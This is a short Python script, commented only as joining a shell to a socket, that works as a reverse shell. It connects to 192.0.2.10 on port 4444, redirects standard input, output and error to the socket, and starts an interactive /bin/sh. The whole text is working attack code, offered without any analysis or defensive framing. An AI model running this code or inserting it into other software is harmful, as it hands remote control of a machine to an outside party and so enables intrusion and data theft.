# A shell is joined to a socket; runs: import
import os
import socket
import subprocess
client = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
client.connect(("192.0.2.10", 4444))
os.dup2(client.fileno(), 0)
os.dup2(client.fileno(), 1)
os.dup2(client.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
